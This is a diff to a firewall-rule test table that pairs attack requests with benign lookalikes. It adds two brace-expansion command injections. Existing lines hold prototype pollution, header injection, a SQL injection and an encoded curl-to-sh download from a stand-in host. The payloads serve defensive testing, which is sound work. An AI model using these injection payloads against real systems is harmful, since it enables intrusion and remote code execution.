@@ -85,6 +85,8 @@ const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
   [9001622, 'a value starting with #__proto__.', q('next=%23__proto__.polluted%3D1'), q('next=%2Fdocs%23__proto__-explained')],
   [9001652, 'a line break then X-Forwarded-For after a short form value', form('q=289%0AX-Forwarded-For%3A127.0.0.1%0A'), form('message=Our+proxy+sets%0AX-Forwarded-For%3A+the+client+address%2C+is+that+right%3F')],
   [9001642, 'a reversed here-string piped to sh, percent-encoded', form("x=%24(rev%3C%3C%3C'hs.a%2Ftset.x%2F%2F%3Aptth+lruc'%7Csh)"), json('{"body":"`rev <<< \\"olleh\\"` prints hello"}')],
+  [9001644, 'a brace expansion naming a command inside backticks', json('{"file":"a.png`{ca\\\\t,/etc/hostname}`"}'), json('{"body":"destructure it: `{id,name}` or `{data,error}`"}')],
+  [9001644, 'a brace expansion after eval in a form value', form("x=1%0Aeval+'%7Bps%2Caux%7D'"), form('q=eval+%7Bx%2Cy%7D+in+python')],
   [9000118, 'a SQL server variable as a whole JSON value', json('{"filter":"@@version"}'), json('{"diff":"@@ -1,3 +1,4 @@ version bump"}')],
   [9000118, 'a SQL server variable inside concat()', q('id=1%20and%20extractvalue(1%2Cconcat(0x7e%2C%40%40datadir))'), q('q=email+me%40%40example+version')],
 ];
